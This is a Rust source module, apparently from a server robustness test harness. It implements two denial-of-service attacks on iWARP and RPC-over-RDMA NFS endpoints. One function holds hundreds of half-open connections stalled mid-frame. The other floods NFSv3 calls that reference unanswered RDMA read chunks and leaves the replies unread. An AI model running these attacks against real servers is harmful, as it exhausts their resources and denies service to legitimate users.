//! Attacks on iWARP and RPC-over-RDMA.

use std::{
    io::{self, Write},
    net::TcpStream,
};

use super::{ADMITTED, Stop, UNADMITTED};
use crate::{
    server::Target,
    wire::{iwarp, rpc, v3},
};

/// Opens connections that stop: a third in the start frame, a third in a segment, and a third in a message of many
/// segments.
pub fn half_open(target: &Target, stop: &Stop) -> io::Result<String> {
    let mut held: Vec<TcpStream> = Vec::new();
    let segment = {
        let mut segment = iwarp::untagged(false, iwarp::SEND, 0, 1, 0).0;
        segment.resize(1400, 0);
        iwarp::fpdu(&segment)
    };
    for number in 0..300 {
        let from = if number % 2 == 0 { ADMITTED } else { UNADMITTED };
        let started = match number % 3 {
            0 => rpc::connect(from, target.rdma).and_then(|mut stream| {
                stream.write_all(&iwarp::start_frame(&[0; 64])[..50])?;
                Ok(stream)
            }),
            1 => iwarp::connect(from, target.rdma).and_then(|mut stream| {
                stream.write_all(&segment[..900])?;
                Ok(stream)
            }),
            _ => iwarp::connect(from, target.rdma).and_then(|mut stream| {
                stream.write_all(&segment)?;
                Ok(stream)
            }),
        };
        held.extend(started.ok());
        if stop.is_now() {
            break;
        }
    }
    stop.wait();
    Ok(format!("{} connections", held.len()))
}

/// Sends calls whose data the server must read from memory that never answers, and calls whose replies are not read.
pub fn unread(target: &Target, stop: &Stop) -> io::Result<String> {
    let (_stream, file) = v3::file(rpc::connect(ADMITTED, target.tcp)?, "/memory", "unread", 1 << 16)?;
    let (mut held, mut calls) = (Vec::new(), 0);
    for number in 0..100u32 {
        let from = if number % 2 == 0 { ADMITTED } else { UNADMITTED };
        let Ok(mut stream) = iwarp::connect(from, target.rdma) else { continue };
        for xid in 1..=32 {
            let message = if xid % 2 == 0 {
                iwarp::inline(xid, &v3::read(xid, &file, 0, 512))
            } else {
                // The arguments of a WRITE of 1 MiB end where the data follow.
                let mut call = v3::write(xid, &file, 0, 0);
                let end = call.0.len() - 4;
                call.0[end..].copy_from_slice(&(1u32 << 20).to_be_bytes());
                iwarp::with_read_chunk(xid, call.0.len() as u32, 1 << 20, &call)
            };
            if stream.write_all(&iwarp::send(xid, &message)).is_err() {
                break;
            }
            calls += 1;
        }
        held.push(stream);
        if stop.is_now() {
            break;
        }
    }
    stop.wait();
    Ok(format!("{} connections, {calls} calls", held.len()))
}
